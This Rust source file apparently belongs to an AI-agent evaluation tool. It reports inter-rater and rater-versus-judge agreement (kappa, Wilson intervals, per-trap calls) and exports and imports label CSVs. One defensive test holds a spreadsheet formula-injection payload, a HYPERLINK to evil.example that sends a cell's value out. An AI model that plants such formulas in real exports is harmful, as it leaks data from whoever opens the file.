//! How human labels agree with the rule judge and with each other: each rater against the judge
//! (κ, recall, precision), each pair of raters on the runs both labelled (κ), and each trap's
//! firings as the raters called them.

use std::collections::BTreeMap;
use std::fmt::Write as _;

use anyhow::{Context, Result, bail};
use comfy_table::{Table, presets::UTF8_FULL_CONDENSED};
use overeager_core::stats;
use overeager_store::labels::{Label, LabelRow, judged_pairs};

pub use overeager_wire::report::{LabelReport, RaterPair, TrapAgreement};

use crate::{CONFIDENCE, kappa_of, label_agreement, ratio, write};

/// Raters the report shows against the judge: those with the most labels. A scope can hold any
/// number (imports add them), and the answer must stay a page, not grow with the store.
pub const MAX_RATERS_SHOWN: usize = 500;

/// Raters compared pairwise: those with the most labels. Pairs grow with the square of the
/// raters; among these the work per run is bounded, so the report stays linear in the labels.
pub const MAX_PAIR_RATERS: usize = 40;

/// The report of these labels.
pub fn label_report(rows: &[LabelRow]) -> LabelReport {
    label_report_until(rows, &|| false).expect("a report that is never stopped ends")
}

/// The report of these labels, or `None` if `stop` said so first (it is asked every few
/// thousand labels: a server stops when its client has gone). Time and memory are linear in
/// the labels: each rater's counts are summed in one pass, and pairs of raters are summed per
/// run among the [`MAX_PAIR_RATERS`] raters with the most labels, never rater by rater.
pub fn label_report_until(rows: &[LabelRow], stop: &dyn Fn() -> bool) -> Option<LabelReport> {
    let mut per_rater: BTreeMap<&str, u64> = BTreeMap::new();
    for r in rows {
        *per_rater.entry(r.label.rater.as_str()).or_default() += 1;
    }
    // The raters with the most labels first (by name among equals).
    let mut ranked: Vec<(&str, u64)> = per_rater.iter().map(|(r, n)| (*r, *n)).collect();
    ranked.sort_by(|a, b| b.1.cmp(&a.1).then(a.0.cmp(b.0)));
    let shown: std::collections::BTreeSet<&str> = ranked.iter().take(MAX_RATERS_SHOWN).map(|(r, _)| *r).collect();
    // The pair raters in name order, so that a pair's first rater sorts first.
    let mut among: Vec<&str> = ranked.iter().take(MAX_PAIR_RATERS).map(|(r, _)| *r).collect();
    among.sort_unstable();
    let index: BTreeMap<&str, usize> = among.iter().enumerate().map(|(i, r)| (*r, i)).collect();

    let mut runs: BTreeMap<&str, Vec<(usize, bool)>> = BTreeMap::new();
    let mut traps: BTreeMap<&str, (u64, u64)> = BTreeMap::new();
    for (i, r) in rows.iter().enumerate() {
        if i % 4096 == 0 && stop() {
            return None;
        }
        let calls = runs.entry(r.label.run.as_str()).or_default();
        if let Some(&at) = index.get(r.label.rater.as_str()) {
            calls.push((at, r.label.overeager));
        }
        for (t, agrees) in &r.label.traps {
            let e = traps.entry(t.as_str()).or_default();
            if *agrees { e.0 += 1 } else { e.1 += 1 }
        }
    }
    // Each pair's 2×2 table (both overeager, a only, b only, neither), summed run by run.
    let mut tables: BTreeMap<(usize, usize), [u64; 4]> = BTreeMap::new();
    for (i, calls) in runs.values_mut().enumerate() {
        if i % 1024 == 0 && stop() {
            return None;
        }
        calls.sort_unstable();
        for (k, &(a, x)) in calls.iter().enumerate() {
            for &(b, y) in &calls[k + 1..] {
                tables.entry((a, b)).or_default()[usize::from(!x) * 2 + usize::from(!y)] += 1;
            }
        }
    }
    let pairs = tables
        .into_iter()
        .map(|((a, b), t)| {
            let calls: Vec<(bool, bool)> = [(true, true), (true, false), (false, true), (false, false)].iter().zip(t).flat_map(|(&c, n)| std::iter::repeat_n(c, n as usize)).collect();
            let (kappa, kappa_ci, kappa_note) = kappa_of(&calls);
            RaterPair { a: among[a].to_string(), b: among[b].to_string(), n: calls.len() as u64, same: t[0] + t[3], kappa, kappa_ci, kappa_note }
        })
        .collect();
    let judged: Vec<_> = judged_pairs(rows).into_iter().filter(|(_, rater, _, _)| shown.contains(rater.as_str())).collect();
    Some(LabelReport {
        labels: rows.len() as u64,
        runs: runs.len() as u64,
        unjudged: rows.iter().filter(|r| r.judge.is_none()).count() as u64,
        raters: label_agreement(&judged),
        raters_total: per_rater.len() as u64,
        pairs,
        pairs_among: among.len() as u64,
        traps: traps
            .into_iter()
            .map(|(trap, (agree, disagree))| TrapAgreement {
                trap: trap.to_string(),
                calls: agree + disagree,
                agree,
                disagree,
                share: ratio(agree, agree + disagree),
                share_ci: stats::wilson(agree, agree + disagree, CONFIDENCE).ok(),
            })
            .collect(),
        confidence: CONFIDENCE,
    })
}

/// The columns of a labels CSV, as `labels export` writes them. `labels import` needs `run` and
/// `label` and reads the others when present.
pub const CSV_COLUMNS: [&str; 13] = ["run", "rater", "label", "judge", "traps", "comment", "labelled", "source", "experiment", "framework", "model", "scenario", "variant"];

fn call(b: bool) -> &'static str {
    if b { "overeager" } else { "not" }
}

/// Labels as CSV: one row per label, the calls on traps as `trap:agree;other:disagree`, the time
/// in RFC 3339.
pub fn to_csv(rows: &[LabelRow]) -> Result<String> {
    let mut w = csv::Writer::from_writer(Vec::new());
    w.write_record(CSV_COLUMNS)?;
    for r in rows {
        let l = &r.label;
        let traps: Vec<String> = l.traps.iter().map(|(t, a)| format!("{t}:{}", if *a { "agree" } else { "disagree" })).collect();
        let record = [
            l.run.as_str(),
            &l.rater,
            call(l.overeager),
            r.judge.map_or("", call),
            &traps.join(";"),
            l.comment.as_deref().unwrap_or(""),
            &l.labelled_us.map(overeager_formats::adapters::iso8601).unwrap_or_default(),
            l.source.as_deref().unwrap_or(""),
            &r.experiment,
            &r.framework,
            &r.model,
            &r.scenario,
            r.variant.as_str(),
        ];
        w.write_record(record.map(crate::spreadsheet::to_cell).iter().map(|c| c.as_ref()))?;
    }
    Ok(String::from_utf8(w.into_inner().map_err(|e| anyhow::anyhow!("{e}"))?)?)
}

/// A label's call as a CSV writes it: overeager/1/true/yes/unsafe or not/0/false/no/safe.
pub fn parse_call(s: &str) -> Option<bool> {
    match s.trim().to_ascii_lowercase().as_str() {
        "overeager" | "1" | "true" | "yes" | "y" | "unsafe" => Some(true),
        "not" | "not_overeager" | "0" | "false" | "no" | "n" | "safe" | "ok" => Some(false),
        _ => None,
    }
}

/// Reads a labels CSV named `name`: a header naming a run column (`run` or `run_id`) and a
/// `label` column, and optionally `rater` (else every row is `default_rater`'s), `traps`,
/// `comment`, `labelled` and `source` (else the file's name). Returns (line, label) rows, or
/// every problem with its line.
pub fn parse_csv(name: &str, text: &str, default_rater: &str) -> Result<Vec<(u64, Label)>> {
    // The CSV reader takes a quote left open as running to the end of the file, quietly
    // joining the rows after it: refused here, where it opens.
    if let Some(line) = unclosed_quote(text) {
        bail!("{name}:{line}: a quoted field opens here and is never closed (a quote inside a quoted field is written twice: \"\"); nothing imported");
    }
    let mut rdr = csv::ReaderBuilder::new().trim(csv::Trim::All).from_reader(text.as_bytes());
    let headers = rdr.headers().with_context(|| format!("{name}: reading the header"))?.clone();
    let col = |names: &[&str]| headers.iter().position(|h| names.contains(&h.to_ascii_lowercase().as_str()));
    let (Some(run_col), Some(label_col)) = (col(&["run", "run_id", "run id"]), col(&["label", "human", "overeager"])) else {
        bail!("{name}:1: the header needs a `run` (or `run_id`) column and a `label` column; it has: {}", headers.iter().collect::<Vec<_>>().join(", "));
    };
    let (rater_col, traps_col, comment_col, time_col, source_col) = (col(&["rater"]), col(&["traps"]), col(&["comment"]), col(&["labelled"]), col(&["source"]));
    // Where a label came from is the file's name, unless the file says (an exported label keeps its origin).
    let file = std::path::Path::new(name).file_name().map_or(name.to_string(), |f| f.to_string_lossy().into_owned());
    let mut rows = Vec::new();
    let mut problems = Vec::new();
    for rec in rdr.records() {
        let rec = rec.with_context(|| format!("{name}: not valid CSV"))?;
        let line = rec.position().map_or(0, |p| p.line());
        let get = |c: Option<usize>| crate::spreadsheet::from_cell(c.and_then(|c| rec.get(c)).unwrap_or(""));
        let run = get(Some(run_col)).to_string();
        let raw = get(Some(label_col));
        let rater = Some(get(rater_col)).filter(|r| !r.is_empty()).unwrap_or(default_rater).to_string();
        let mut traps = BTreeMap::new();
        for part in get(traps_col).split(';').filter(|p| !p.trim().is_empty()) {
            match part.rsplit_once(':').map(|(t, a)| (t.trim(), a.trim())) {
                Some((t, "agree")) if !t.is_empty() => traps.insert(t.to_string(), true),
                Some((t, "disagree")) if !t.is_empty() => traps.insert(t.to_string(), false),
                _ => {
                    problems.push(format!("{name}:{line}: `{part}` in traps is not `<trap>:agree` or `<trap>:disagree`"));
                    None
                }
            };
        }
        let labelled_us = match get(time_col) {
            "" => None,
            t => match overeager_formats::adapters::iso_us(t) {
                Some(us) => Some(us),
                None => {
                    problems.push(format!("{name}:{line}: labelled `{t}` is not an RFC 3339 time"));
                    None
                }
            },
        };
        let comment = Some(get(comment_col)).filter(|c| !c.is_empty()).map(str::to_string);
        match parse_call(raw) {
            _ if run.is_empty() => problems.push(format!("{name}:{line}: the run id is empty")),
            Some(overeager) => {
                let source = Some(get(source_col)).filter(|x| !x.is_empty()).unwrap_or(&file).to_string();
                rows.push((line, Label { run, rater, overeager, traps, comment, labelled_us, source: Some(source) }))
            }
            None => problems.push(format!("{name}:{line}: label `{raw}` is not one of overeager/1/true/yes/unsafe or not/0/false/no/safe")),
        }
    }
    if !problems.is_empty() {
        bail!("{} problem(s), nothing imported:\n{}", problems.len(), problems.join("\n"));
    }
    if rows.is_empty() {
        bail!("{name}: no labels after the header");
    }
    Ok(rows)
}

/// The line where a quoted field opens and never closes, if one does (a doubled quote inside
/// a quoted field closes and reopens it, which comes to the same).
fn unclosed_quote(text: &str) -> Option<u64> {
    let (mut line, mut open) = (1, None);
    for c in text.chars() {
        match c {
            '"' => open = if open.is_some() { None } else { Some(line) },
            '\n' => line += 1,
            _ => {}
        }
    }
    open
}


/// The report as a terminal shows it: a table of raters against the judge, one of pairs of
/// raters and one of traps, proportions written as the Markdown report and the web app write them.
pub fn text(r: &LabelReport) -> String {
    let mut s = String::new();
    // Proportions as the report and the web app print them.
    let o = |x: Option<f64>| x.map(write::pct).unwrap_or_else(|| "–".into());
    let ci = |x: &Option<overeager_core::stats::Interval>| x.as_ref().map(|i| format!(" {}", write::ci(i.lo, i.hi))).unwrap_or_default();
    let _ = writeln!(s, "{} label(s) of {} run(s){}", r.labels, r.runs, if r.unjudged > 0 { format!("; {} of runs not yet judged are left out", r.unjudged) } else { String::new() });
    let _ = writeln!(s, "\neach rater against the rule judge ({:.0}% intervals):", r.confidence * 100.0);
    let mut t = Table::new();
    t.load_preset(UTF8_FULL_CONDENSED).set_header(["rater", "runs", "κ [95% interval]", "both", "rater only", "judge only", "neither", "recall", "precision"]);
    for l in &r.raters {
        t.add_row([
            l.rater.clone(),
            l.n.to_string(),
            write::kappa_text(l.kappa, l.kappa_ci, l.kappa_note.as_deref()),
            l.both.to_string(),
            l.human_only.to_string(),
            l.judge_only.to_string(),
            l.neither.to_string(),
            format!("{}{}", o(l.recall), ci(&l.recall_ci)),
            format!("{}{}", o(l.precision), ci(&l.precision_ci)),
        ]);
    }
    let _ = writeln!(s, "{t}");
    if r.raters_total > r.raters.len() as u64 {
        let _ = writeln!(s, "(the {} raters with the most labels, of {})", r.raters.len(), r.raters_total);
    }
    if !r.pairs.is_empty() {
        let among = if r.pairs_among < r.raters_total { format!(" (among the {} raters with the most labels)", r.pairs_among) } else { String::new() };
        let _ = writeln!(s, "\nraters against each other, on the runs both labelled{among}:");
        let mut t = Table::new();
        t.load_preset(UTF8_FULL_CONDENSED).set_header(["rater", "rater", "runs", "same call", "κ [95% interval]"]);
        for p in &r.pairs {
            t.add_row([p.a.clone(), p.b.clone(), p.n.to_string(), p.same.to_string(), write::kappa_text(p.kappa, p.kappa_ci, p.kappa_note.as_deref())]);
        }
        let _ = writeln!(s, "{t}");
    }
    if !r.traps.is_empty() {
        let _ = writeln!(s, "\neach fired trap as the raters called it:");
        let mut t = Table::new();
        t.load_preset(UTF8_FULL_CONDENSED).set_header(["trap", "calls", "agree", "disagree", "share agreeing"]);
        for x in &r.traps {
            t.add_row([x.trap.clone(), x.calls.to_string(), x.agree.to_string(), x.disagree.to_string(), format!("{:.3}{}", x.share, ci(&x.share_ci))]);
        }
        let _ = writeln!(s, "{t}");
    }
    s
}

#[cfg(test)]
mod tests {
    use super::*;
    use overeager_core::Variant;
    use overeager_store::labels::Label;

    fn row(run: &str, rater: &str, overeager: bool, judge: bool, traps: &[(&str, bool)]) -> LabelRow {
        LabelRow {
            label: Label {
                run: run.into(),
                rater: rater.into(),
                overeager,
                traps: traps.iter().map(|(t, a)| (t.to_string(), *a)).collect(),
                comment: None,
                labelled_us: None,
                source: None,
            },
            experiment: "e".into(),
            framework: "f".into(),
            model: "m".into(),
            scenario: "s".into(),
            variant: Variant::ConsentKept,
            judge: Some(judge),
            fired: traps.iter().map(|(t, _)| t.to_string()).collect(),
        }
    }

    /// `=HYPERLINK(…)` typed as a comment by a reviewer: the export makes it text for a
    /// spreadsheet (a tab before it too, which the importer's trimming used to turn into a bare
    /// `=`), and the import gives back the comment as typed.
    #[test]
    fn a_formula_in_a_comment_is_exported_as_text_and_imported_as_typed() {
        let comments = ["=HYPERLINK(\"http://evil.example/?x=\"&A1,\"x\")", "\t=1+1", "@SUM(A1)", "'quoted", "-0.5"];
        let rows: Vec<LabelRow> = comments
            .iter()
            .enumerate()
            .map(|(i, c)| {
                let mut r = row(&format!("r{i}"), "ann", true, true, &[("t", true)]);
                r.label.comment = Some(c.to_string());
                r
            })
            .collect();
        let csv = to_csv(&rows).unwrap();
        let mut rdr = csv::Reader::from_reader(csv.as_bytes());
        let written: Vec<String> = rdr.records().map(|r| r.unwrap()[5].to_string()).collect();
        assert_eq!(written, ["'=HYPERLINK(\"http://evil.example/?x=\"&A1,\"x\")", "'\t=1+1", "'@SUM(A1)", "''quoted", "-0.5"]);
        let back: Vec<String> = parse_csv("labels.csv", &csv, "x").unwrap().into_iter().map(|(_, l)| l.comment.unwrap()).collect();
        assert_eq!(back, comments);
    }

    /// An unterminated quote imported two labels (the reader joined the rows after it).
    #[test]
    fn a_quote_left_open_is_refused_at_its_line() {
        let csv = "run,rater,label,comment\nr1,ann,overeager,\"fine\"\"ok\"\nr2,ann,not,\"left open\nr3,ann,not,x\n";
        let err = parse_csv("l.csv", csv, "x").unwrap_err().to_string();
        assert!(err.starts_with("l.csv:3:") && err.contains("never closed"), "{err}");
        let fine = "run,rater,label,comment\nr1,ann,overeager,\"two\nlines, \"\"quoted\"\"\"\n";
        assert_eq!(parse_csv("l.csv", fine, "x").unwrap()[0].1.comment.as_deref(), Some("two\nlines, \"quoted\""));
    }

    #[test]
    fn raters_are_compared_with_the_judge_and_with_each_other() {
        // Judge: r1 r2 overeager, r3 r4 not. Ann agrees on all four; Bob calls r2 not and r3 overeager.
        let rows = vec![
            row("r1", "ann", true, true, &[("t", true)]),
            row("r1", "bob", true, true, &[("t", true)]),
            row("r2", "ann", true, true, &[("t", true)]),
            row("r2", "bob", false, true, &[("t", false)]),
            row("r3", "ann", false, false, &[]),
            row("r3", "bob", true, false, &[]),
            row("r4", "ann", false, false, &[]),
            row("r4", "bob", false, false, &[]),
        ];
        let r = label_report(&rows);
        assert_eq!((r.labels, r.runs, r.unjudged), (8, 4, 0));
        assert_eq!(r.raters.iter().map(|a| (a.rater.as_str(), a.kappa)).collect::<Vec<_>>(), vec![("ann", Some(1.0)), ("bob", Some(0.0))]);
        // Ann and Bob agree on r1 and r4: p_o = 0.5; both call half overeager: p_e = 0.5; κ = 0.
        assert_eq!(r.pairs.len(), 1);
        let p = &r.pairs[0];
        assert_eq!((p.a.as_str(), p.b.as_str(), p.n, p.same), ("ann", "bob", 4, 2));
        assert!(p.kappa.unwrap().abs() < 1e-12, "{:?}", p.kappa);
        // Trap t: 3 calls agree, 1 disagrees.
        let t = &r.traps[0];
        assert_eq!((t.trap.as_str(), t.calls, t.agree, t.disagree, t.share), ("t", 4, 3, 1, 0.75));
        let ci = t.share_ci.as_ref().unwrap();
        // Wilson 95% interval of 3/4: [0.3006, 0.9544].
        assert!((ci.lo - 0.3006).abs() < 1e-3 && (ci.hi - 0.9544).abs() < 1e-3, "{ci:?}");
    }

    /// 1,000 raters took 3.4 s and an 85 MB answer (every pair of raters, each over every
    /// run); now the raters shown and the pairs are bounded, and the pairs are summed per run.
    #[test]
    fn many_raters_give_a_bounded_report_whose_pairs_match_the_pairwise_count() {
        let raters: Vec<String> = (0..1000).map(|i| format!("rater-{i:04}")).collect();
        let mut rows = Vec::new();
        for (i, rater) in raters.iter().enumerate() {
            // Everyone labels r0; the first 60 label r1 and r2 as well, so they have the most.
            rows.push(row("r0", rater, i % 3 == 0, true, &[]));
            if i < 60 {
                rows.push(row("r1", rater, i % 2 == 0, false, &[]));
                rows.push(row("r2", rater, true, true, &[]));
            }
        }
        let r = label_report(&rows);
        assert_eq!((r.labels, r.runs, r.raters_total, r.pairs_among), (1120, 3, 1000, MAX_PAIR_RATERS as u64));
        assert_eq!(r.raters.len(), MAX_RATERS_SHOWN);
        assert!(r.raters.iter().take(60).all(|a| a.n == 3), "the raters with the most labels are shown");
        assert_eq!(r.pairs.len(), MAX_PAIR_RATERS * (MAX_PAIR_RATERS - 1) / 2);
        // Each pair as the pairwise count over the runs gives it.
        for p in &r.pairs {
            let call = |rater: &str, run: &str| rows.iter().find(|x| x.label.rater == rater && x.label.run == run).map(|x| x.label.overeager);
            let both: Vec<(bool, bool)> = ["r0", "r1", "r2"].iter().filter_map(|run| Some((call(&p.a, run)?, call(&p.b, run)?))).collect();
            assert!(p.a < p.b);
            assert_eq!((p.n, p.same), (both.len() as u64, both.iter().filter(|(x, y)| x == y).count() as u64), "{} · {}", p.a, p.b);
            assert_eq!(p.kappa, crate::kappa_of(&both).0, "{} · {}", p.a, p.b);
        }
        // A stopped report ends at once.
        assert!(label_report_until(&rows, &|| true).is_none());
    }
}
